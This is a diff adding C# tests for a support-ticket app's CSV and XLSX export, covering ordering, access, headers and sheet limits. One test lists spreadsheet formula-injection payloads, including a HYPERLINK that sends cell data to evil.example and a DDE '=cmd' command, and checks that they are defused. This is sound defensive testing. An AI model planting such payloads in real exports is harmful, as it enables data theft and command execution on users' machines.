@@ -1,0 +1,163 @@
+using System.Globalization;
+using System.Net;
+using DocumentFormat.OpenXml.Spreadsheet;
+using SupportTickets.Access;
+using SupportTickets.Export;
+using SupportTickets.Tests.Fixtures;
+using SupportTickets.Tests.OData;
+using SupportTickets.Tests.Pages;
+using SupportTickets.Tickets;
+
+namespace SupportTickets.Tests.Export;
+
+public sealed class ExportTests
+{
+    private static readonly string[] Columns =
+    [
+        "Id", "Title", "Description", "Category", "Priority", "Status", "Sentiment", "Urgency", "Channel", "Created (UTC)", "Updated (UTC)", "Resolved (UTC)",
+        "Minutes to resolve", "Times reopened", "Version",
+    ];
+
+    private static CancellationToken Cancel => TestContext.Current.CancellationToken;
+
+    [Theory, Providers]
+    public async Task A_file_has_every_row_of_the_list_in_its_order_whatever_is_filtered(Provider provider)
+    {
+        await using var feed = await FeedDesk.StartAsync(provider, new ManualClock(ManualClock.Monday));
+        await feed.SeedAsync(230);
+        var site = new Site(feed.Desk);
+        var stored = (await feed.Desk.TicketsAsync()).ToDictionary(t => t.Id);
+        string[] queries = ["", "?status=open&sort=-urgency", "?search=ticket+1&category=technical&sort=priority", "?sentiment=angry&priority=high&sort=-status", "?sort=category", "?sort=created", "?search=nowhere"];
+        foreach (var query in queries)
+        {
+            var ids = new List<int>();
+            for (string? url = $"/tickets{query}"; url is not null;)
+            {
+                var page = await site.GetAsync(url);
+                ids.AddRange(page.Texts("tbody .col-id").Select(id => int.Parse(id[1..])));
+                url = page.Document.QuerySelector("a[rel=next]") is null ? null : page.Href("a[rel=next]");
+            }
+            feed.Forget();
+            var csv = ExportFile.ReadCsv(await FileAsync(feed.Desk, $"/tickets/export.csv{query}"));
+            Assert.Single(feed.Sql);
+            var rows = ids.Select(id => Row(stored[id])).ToList();
+            Assert.Equal(Columns, csv[0]);
+            Assert.Equal((query, string.Join('\n', rows)), (query, string.Join('\n', csv.Skip(1).Select(Joined))));
+            var sheet = Assert.Single(ExportFile.ReadXlsx(await FileAsync(feed.Desk, $"/tickets/export.xlsx{query}")));
+            Assert.Equal(csv, sheet);
+        }
+    }
+
+    [Fact]
+    public async Task The_list_links_to_the_files_of_what_it_shows()
+    {
+        await using var desk = await Desk.StartAsync(Provider.Sqlite, new ManualClock(ManualClock.Monday));
+        await desk.AddTicketAsync("Füße, \"Größe\"; 名前", priority: Priority.high);
+        await desk.AddTicketAsync("Another");
+        var page = await new Site(desk).GetAsync("/tickets?priority=high&search=f%C3%BC&sort=-urgency");
+        Assert.Equal(["CSV", "XLSX"], page.Texts(".exports a"));
+        foreach (var (link, name, type) in ((string, string, string)[])
+            [(".exports a:first-of-type", "tickets-2026-11-23.csv", "text/csv; charset=utf-8"), (".exports a:last-of-type", "tickets-2026-11-23.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
+        {
+            using var answer = await desk.Client.GetAsync(page.Href(link), Cancel);
+            Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
+            Assert.Equal(type, answer.Content.Headers.ContentType!.ToString());
+            Assert.Equal($"attachment; filename={name}", answer.Content.Headers.ContentDisposition!.ToString());
+            Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
+            Assert.True(answer.Headers.CacheControl!.NoStore);
+            var file = await answer.Content.ReadAsByteArrayAsync(Cancel);
+            var rows = name.EndsWith("csv", StringComparison.Ordinal) ? ExportFile.ReadCsv(file) : ExportFile.ReadXlsx(file)[0];
+            Assert.Equal(["Füße, \"Größe\"; 名前"], rows.Skip(1).Select(row => row[1]));
+            using var head = await desk.Client.SendAsync(new(HttpMethod.Head, page.Href(link)), Cancel);
+            Assert.Equal((HttpStatusCode.OK, $"attachment; filename={name}"), (head.StatusCode, head.Content.Headers.ContentDisposition!.ToString()));
+        }
+    }
+
+    [Fact]
+    public async Task What_cannot_be_meant_or_may_not_be_read_is_a_page_that_says_so_and_no_file()
+    {
+        await using var desk = await Desk.StartAsync(Provider.Sqlite, settings: ("ACCESS", "submit"));
+        using var viewer = await desk.SignedInAsync(Role.viewer);
+        foreach (var format in (string[])["csv", "xlsx"])
+        {
+            foreach (var query in (string[])["status=nope", "sort=title", "search=a%00"])
+            {
+                using var answer = await viewer.GetAsync($"/tickets/export.{format}?{query}", Cancel);
+                Assert.Equal((query, HttpStatusCode.BadRequest, "text/html"), (query, answer.StatusCode, answer.Content.Headers.ContentType!.MediaType));
+                Assert.Null(answer.Content.Headers.ContentDisposition);
+            }
+            Assert.Contains("There is no status “nope”", WebUtility.HtmlDecode(await (await viewer.GetAsync($"/tickets/export.{format}?status=nope", Cancel)).Content.ReadAsStringAsync(Cancel)));
+            using var stranger = await desk.NewClient().GetAsync($"/tickets/export.{format}", Cancel);
+            Assert.Equal((HttpStatusCode.Redirect, true), (stranger.StatusCode, stranger.Headers.Location!.ToString().StartsWith("/sign-in", StringComparison.Ordinal)));
+        }
+    }
+
+    [Fact]
+    public async Task A_text_that_a_spreadsheet_could_run_is_harmless_in_csv_and_as_it_was_in_xlsx()
+    {
+        await using var desk = await Desk.StartAsync(Provider.Sqlite);
+        (string Text, string Csv)[] cases =
+        [
+            ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠a", "'＠a"), ("−1", "'−1"),
+            ("=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")"), ("\"=1", "'\"=1"), ("'=1", "''=1"),
+            ("a,=1", "a,'=1"), ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"), ("a\t+1", "a\t'+1"), ("a; \"@x", "a;' \"@x"), ("one\n=two", "one\n'=two"), ("one\r=two", "one\r'=two"),
+            ("1+1=2 a-b a@b.example", "1+1=2 a-b a@b.example"), ("plain", "plain"), ("_x003D_1+1", "_x003D_1+1"), ("a\u0001b\u0008\uFFFF", "a\u0001b\u0008\uFFFF"), ("😀 tail", "😀 tail"),
+        ];
+        foreach (var (text, _) in cases) await desk.AddTicketAsync(text, text);
+        var csv = ExportFile.ReadCsv(await FileAsync(desk, "/tickets/export.csv?sort=created"));
+        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[1]));
+        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[2]));
+
+        var xlsx = await FileAsync(desk, "/tickets/export.xlsx?sort=created");
+        Assert.Equal(cases.Select(c => c.Text.Replace('\u0001', '\uFFFD').Replace('\u0008', '\uFFFD').Replace('\uFFFF', '\uFFFD')), ExportFile.ReadXlsx(xlsx)[0].Skip(1).Select(row => row[1]));
+        var cells = ExportFile.Cells(xlsx);
+        Assert.DoesNotContain(cells, cell => cell.CellFormula is not null);
+        Assert.All(cells.Where(cell => cell.CellReference!.Value is ['B' or 'C', not '1', ..]), cell => Assert.Equal((CellValues.InlineString, 1u), (cell.DataType!.Value, cell.StyleIndex!.Value)));
+    }
+
+    [Theory]
+    [InlineData("\tx", "'\tx")]
+    [InlineData("\r\nx", "'\r\nx")]
+    [InlineData("", "")]
+    [InlineData("a,b;c", "a,b;c")]
+    public void A_cell_that_begins_with_a_tab_or_a_line_break_is_harmless_too(string text, string csv) => Assert.Equal(csv, CsvFile.Harmless(text));
+
+    [Fact]
+    public async Task A_sheet_that_is_full_goes_on_on_another_and_a_longer_text_than_a_cell_holds_ends_in_an_ellipsis()
+    {
+        using var stream = new MemoryStream();
+        await using (var file = new XlsxFile(stream, maxRows: 3))
+        {
+            await file.StartAsync(Cancel);
+            foreach (var text in (string[])["one", new string('x', XlsxFile.MaxText), new string('x', XlsxFile.MaxText + 1), new string('x', XlsxFile.MaxText - 2) + "😀😀"])
+            {
+                file.StartRow();
+                file.Text(text);
+                await file.EndRowAsync(Cancel);
+            }
+            await file.FinishAsync(Cancel);
+        }
+        var sheets = ExportFile.ReadXlsx(stream.ToArray());
+        Assert.Equal([3, 3], sheets.Select(sheet => sheet.Count));
+        Assert.Equal(Columns, sheets[1][0]);
+        Assert.Equal(["one", new string('x', XlsxFile.MaxText)], sheets[0].Skip(1).Select(row => row[0]));
+        Assert.Equal([new string('x', XlsxFile.MaxText - 1) + "…", new string('x', XlsxFile.MaxText - 2) + "…"], sheets[1].Skip(1).Select(row => row[0]));
+    }
+
+    private static async Task<byte[]> FileAsync(Desk desk, string url)
+    {
+        using var answer = await desk.Client.GetAsync(url, Cancel);
+        Assert.Equal((url, HttpStatusCode.OK), (url, answer.StatusCode));
+        return await answer.Content.ReadAsByteArrayAsync(Cancel);
+    }
+
+    private static string Joined(string[] cells) => string.Join('|', cells);
+
+    private static string Row(Ticket t) => Joined(
+    [
+        $"{t.Id}", t.Title, t.Description, $"{t.Category}", $"{t.Priority}", $"{t.Status}", $"{t.Sentiment}", $"{t.UrgencyScore}", $"{t.Channel}",
+        Time(t.CreatedAt), Time(t.UpdatedAt), Time(t.ResolvedAt), $"{t.ResolutionMinutes}", $"{t.ReopenCount}", $"{t.Version}",
+    ]);
+
+    private static string Time(DateTime? time) => time?.ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture) ?? "";
+}
